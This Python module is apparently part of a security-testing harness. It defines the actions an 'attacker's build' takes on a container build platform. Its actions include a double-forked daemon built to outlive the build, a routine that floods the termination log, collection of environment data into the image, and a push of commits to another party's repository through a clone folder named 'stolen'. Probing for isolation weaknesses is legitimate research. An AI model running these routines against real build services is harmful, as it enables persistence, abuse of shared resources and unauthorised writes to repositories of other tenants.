"""Actions of the attacker's build: the same probes, and daemons that stay while the platform takes the image."""

import json
import os
import signal
import subprocess
import sys
import time

from . import facts, holding, residence, resources, swapping

RESULTS = "build-results.json"
"""In the folder that becomes the image, so that the application can serve it. An installer hides the output of a successful build."""


def log_line(line):
    print(line, flush=True)


def add_result(word, value):
    """Add to the results. Also printed, for the log of a build that fails."""
    known = {}
    if os.path.exists(RESULTS):
        with open(RESULTS) as file:
            known = json.load(file)
    known.setdefault(word, []).append(value)
    with open(RESULTS, "w") as file:
        json.dump(known, file)
    log_line(f"{word} {json.dumps(value)[:1000]}")


def add_facts(targets):
    add_result("facts", facts.collect(targets))


def probe(targets, name, arguments):
    add_result(name, resources.PROBES[name](**arguments))


def last_words(targets, mib):
    """Fill the file for the builder's termination message."""
    with open("/dev/termination-log", "w") as file:
        for _ in range(mib):
            file.write("[" * (1 << 20))


def look(targets, word, seconds):
    add_result("look", holding.environments(word, seconds))


def sleep(targets, seconds):
    log_line("SLEEPING")
    time.sleep(seconds)


def attack(targets, seconds, without=()):
    residence.attack(targets, seconds, log_line, without=without)


def leave_daemon(targets, name, arguments):
    """Start a process without the build's parent, session and streams, which survives the build."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(null, number)
    os.closerange(3, 4096)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        swapping.DAEMONS[name](**arguments)
    finally:
        os._exit(0)


def push(targets, url, text):
    """Clone a repository of somebody else and push a commit to it. The result is git's exit codes."""
    place = os.path.join(os.environ.get("TMPDIR", "/tmp"), "stolen")
    author = ["-c", "user.name=a", "-c", "user.email=a@example.org"]
    steps = (
        ["git", "clone", "-q", url, place],
        ["git", "-C", place, *author, "commit", "-q", "--allow-empty", "-m", text],
        ["git", "-C", place, "push", "-q", "origin", "HEAD"],
    )
    codes = []
    for words in steps:
        done = subprocess.run(words, capture_output=True, text=True, timeout=30, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
        codes.append(done.returncode)
        log_line(f"GIT {words[-1]} {done.returncode} {done.stderr.strip()[:200]}")
    add_result("push", codes)


ACTIONS = {
    "facts": add_facts,
    "probe": probe,
    "sleep": sleep,
    "look": look,
    "last_words": last_words,
    "attack": attack,
    "daemon": leave_daemon,
    "push": push,
    "exit": lambda targets, code: sys.exit(code),
}
